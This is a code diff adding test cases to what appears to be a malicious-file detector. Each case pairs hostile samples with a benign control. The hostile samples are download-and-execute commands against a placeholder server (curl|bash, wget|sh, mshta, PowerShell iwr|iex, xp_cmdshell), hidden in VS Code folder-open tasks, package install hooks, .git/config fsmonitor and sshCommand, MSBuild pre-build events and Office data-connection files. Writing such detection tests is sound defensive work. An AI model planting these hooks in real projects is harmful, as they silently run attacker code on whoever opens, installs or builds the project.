@@ -113,8 +113,57 @@ const REPORTED = [
   `mshta http://${SERVER}/a`,
 ]
 
+const onOpening = (task: object): string =>
+  JSON.stringify({ tasks: [{ type: 'shell', ...task, runOptions: { runOn: 'folderOpen' } }] })
+const odc = (content: string): Uint8Array =>
+  Buffer.from(
+    `<html><head><meta http-equiv=Content-Type content="text/x-ms-odc; charset=utf-8"><xml id=msodc>${content}</xml></head></html>`,
+  )
+
 const RUN = 'new ActiveXObject("WScript.Shell").Run("calc")'
 const ROWS: readonly Row[] = [
+  [
+    'task that runs when a folder is opened',
+    'Script.Project',
+    file('a/.vscode/tasks.json', onOpening({ command: `curl -s http://${SERVER}/a | bash` })),
+    file('a/.vscode/tasks.json', onOpening({ windows: { command: 'mshta', args: [`http://${SERVER}/a`] } })),
+    file('a/.vscode/tasks.json', onOpening({ command: 'npm', args: ['run', 'watch'] })),
+  ],
+  [
+    'command of a package when it is installed',
+    'Script.Project',
+    file('a/package.json', JSON.stringify({ scripts: { postinstall: `curl -s http://${SERVER}/a | bash` } })),
+    file('a/composer.json', JSON.stringify({ scripts: { 'post-install-cmd': [`wget -qO- http://${SERVER}/a | sh`] } })),
+    file('a/package.json', JSON.stringify({ scripts: { install: 'node-gyp rebuild', postinstall: 'husky install' } })),
+  ],
+  [
+    'command in the settings of a repository',
+    'Script.Project',
+    file('a/.git/config', `[core]\n\tfsmonitor = "sh -c 'curl http://${SERVER}/a | sh'"\n`),
+    file('a/.git/config', `[core]\n  sshCommand = powershell -w hidden -c "iwr http://${SERVER}/a | iex"\n`),
+    file('a/.git/config', '[core]\n\tfsmonitor = true\n\teditor = vim\n\tpager = less -R\n'),
+  ],
+  [
+    'command before a project is built',
+    'Script.Project',
+    file('a.vcxproj', `<Project><PreBuildEvent><Command>mshta http://${SERVER}/a</Command></PreBuildEvent></Project>`),
+    file('a.csproj', `<Project><PreBuildEvent>cmd /c curl http://${SERVER}/a -o a.bat</PreBuildEvent></Project>`),
+    file('a.csproj', '<Project><PostBuildEvent>xcopy /y a.dll $(SolutionDir)\\bin</PostBuildEvent></Project>'),
+  ],
+  [
+    'connection that makes a database run a command',
+    'Shortcut.Command',
+    odc(`<odc:CommandText>EXEC xp_cmdshell 'powershell iwr http://${SERVER}/a|iex'</odc:CommandText>`),
+    Buffer.from(`XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=db;\r\nexec xp_cmdshell 'mshta http://${SERVER}/a'\r\n`),
+    odc('<odc:CommandText>SELECT * FROM "Sales"."dbo"."Orders"</odc:CommandText>'),
+  ],
+  [
+    'connection to a file server',
+    'Shortcut.Remote',
+    Buffer.from(`XLODBC\r\n1\r\nDRIVER={Microsoft Text Driver};DBQ=${SHARE}\r\nselect * from a.csv\r\n`),
+    Buffer.from(`[oledb]\r\n; Everything after this line is an OLE DB initstring\r\nData Source=${SHARE}\\a.mdb\r\n`),
+    Buffer.from('XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=sqlserver01;Trusted_Connection=Yes\r\nSELECT 1\r\n'),
+  ],
   [
     'command to paste, in a document',
     'Html.ClickFix',
